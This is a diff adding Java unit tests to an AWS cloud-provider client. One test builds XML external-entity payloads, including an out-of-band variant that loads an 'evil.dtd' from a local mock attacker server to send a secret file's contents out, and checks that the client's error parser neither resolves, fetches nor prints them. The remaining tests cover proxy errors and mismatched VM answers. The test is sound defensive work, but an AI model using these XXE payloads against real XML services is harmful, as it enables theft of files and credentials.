@@ -341,6 +341,101 @@ class AwsProviderTest {
   }
 
   @Test
+  void errorAnswersWithEntitiesAreNeitherResolvedNorFetchedNorPrinted() throws Exception {
+    java.nio.file.Path secret = java.nio.file.Files.createTempFile("pgpass", ".txt");
+    java.nio.file.Files.writeString(secret, "db:5432:*:flotilla:SECRET-PASSWORD\n");
+    java.util.concurrent.atomic.AtomicInteger fetched = new java.util.concurrent.atomic.AtomicInteger();
+    com.sun.net.httpserver.HttpServer attacker = com.sun.net.httpserver.HttpServer.create(
+        new java.net.InetSocketAddress("127.0.0.1", 0), 0);
+    int port = attacker.getAddress().getPort();
+    attacker.createContext("/", ex -> {
+      fetched.incrementAndGet();
+      byte[] dtd = ("<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:" + port + "/?%file;'>\">")
+          .getBytes(java.nio.charset.StandardCharsets.UTF_8);
+      ex.sendResponseHeaders(200, dtd.length);
+      ex.getResponseBody().write(dtd);
+      ex.close();
+    });
+    attacker.start();
+    String file = secret.toUri().toString();
+    String general = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"" + file + "\">]><Response><Errors>"
+        + "<Error><Code>InvalidParameterValue</Code><Message>&x;</Message></Error></Errors><RequestID>1</RequestID>"
+        + "</Response>";
+    String parameter = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % file SYSTEM \"" + file + "\"><!ENTITY % dtd"
+        + " SYSTEM \"http://127.0.0.1:" + port + "/evil.dtd\"> %dtd; %all;]><Response><Errors><Error><Code>"
+        + "InvalidParameterValue</Code><Message>&send;</Message></Error></Errors></Response>";
+    java.io.PrintStream stderr = System.err;
+    java.io.ByteArrayOutputStream printed = new java.io.ByteArrayOutputStream();
+    System.setErr(new java.io.PrintStream(printed, true, java.nio.charset.StandardCharsets.UTF_8));
+    try {
+      for (String body : List.of(general, parameter)) {
+        server.failNextWith(400, "text/xml;charset=UTF-8", body);
+        assertThatThrownBy(provider::list).isInstanceOfSatisfying(CloudException.class, e -> {
+          assertThat(e.kind()).as("a 400 that is not EC2's own error says nothing").isEqualTo(Kind.UNKNOWN);
+          assertThat(e.getMessage()).contains("not an error of the cloud's own").doesNotContain("SECRET-PASSWORD");
+        });
+      }
+      for (int i = 0; i < 6; i++) {
+        server.failNextWith(503, "text/html", "<html><body><h1>Service Unavailable</h1>");
+      }
+      try {
+        provider.list();
+      } catch (CloudException e) {
+        assertThat(e.kind()).isEqualTo(Kind.TRANSIENT);
+      }
+      server.clearFaults();
+      server.failNextWith(500, "application/unknown", "upstream connect error or disconnect/reset before headers");
+      try {
+        provider.list();
+      } catch (CloudException e) {
+        assertThat(e.kind()).isEqualTo(Kind.TRANSIENT);
+      }
+    } finally {
+      System.setErr(stderr);
+      attacker.stop(0);
+    }
+    assertThat(fetched).as("nothing fetched the attacker's DTD").hasValue(0);
+    assertThat(printed.toString(java.nio.charset.StandardCharsets.UTF_8)).doesNotContain("[Fatal Error]")
+        .doesNotContain("SECRET-PASSWORD");
+  }
+
+  @Test
+  void aProxysNotFoundNeitherEndsARecordNorSkipsADestroy() {
+    VmClient client = client();
+    Node web = nodes(1).get(0);
+    Instance vm = client.start(web);
+    server.garbage("DescribeInstances", 1, Ec2Server.Garbage.FOREIGN_404);
+    assertThatThrownBy(() -> client.destroy(web)).isInstanceOfSatisfying(CloudException.class,
+        e -> assertThat(e.kind()).isEqualTo(Kind.UNKNOWN));
+    assertThat(client.record("web1").flatMap(Node::vmId)).contains(vm.id());
+    assertThat(server.vms.get(vm.id()).state).isEqualTo("running");
+    server.garbage("DescribeInstances", 1, Ec2Server.Garbage.INCOMPLETE);
+    assertThatThrownBy(client::reconcile).isInstanceOf(CloudException.class);
+    assertThat(client.record("web1").flatMap(Node::vmId)).as("an answer without its list proves nothing")
+        .contains(vm.id());
+    client.destroy(web);
+    assertThat(server.vms.get(vm.id()).state).isIn("shutting-down", "terminated");
+  }
+
+  @Test
+  void aCreateAnsweredWithAnotherNodesVmIsRefusedAndBindsNothing() {
+    VmClient client = client();
+    Instance web1 = client.start(Node.builder("web1").build());
+    server.runAnswersExisting = List.of(web1.id());
+    assertThatThrownBy(() -> client.start(Node.builder("web2").build()))
+        .isInstanceOfSatisfying(CloudException.class, e -> {
+          assertThat(e.kind()).isEqualTo(Kind.UNKNOWN);
+          assertThat(e.getMessage()).contains("web2").contains(web1.id()).contains("refused");
+        });
+    assertThat(client.record("web2").flatMap(Node::vmId)).isEmpty();
+    assertThat(client.record("web2").flatMap(Node::createIntent)).as("the intent stays").isPresent();
+    assertThat(server.vms.get(web1.id()).tags).containsEntry(Instance.NODE_TAG, "web1");
+    assertThat(client.record("web1").flatMap(Node::vmId)).contains(web1.id());
+    Instance web2 = client.start(Node.builder("web2").build());
+    assertThat(web2.id()).isNotEqualTo(web1.id());
+  }
+
+  @Test
   void nodeNamesOfOneLaunchFitOneTagValue() {
     assertThat(NodeNames.encode(List.of("web1", "web2", "web3"))).contains("web{1..3}");
     assertThat(NodeNames.encode(IntStream.rangeClosed(1, 100).mapToObj(i -> String.format("n%03d", i)).toList()))
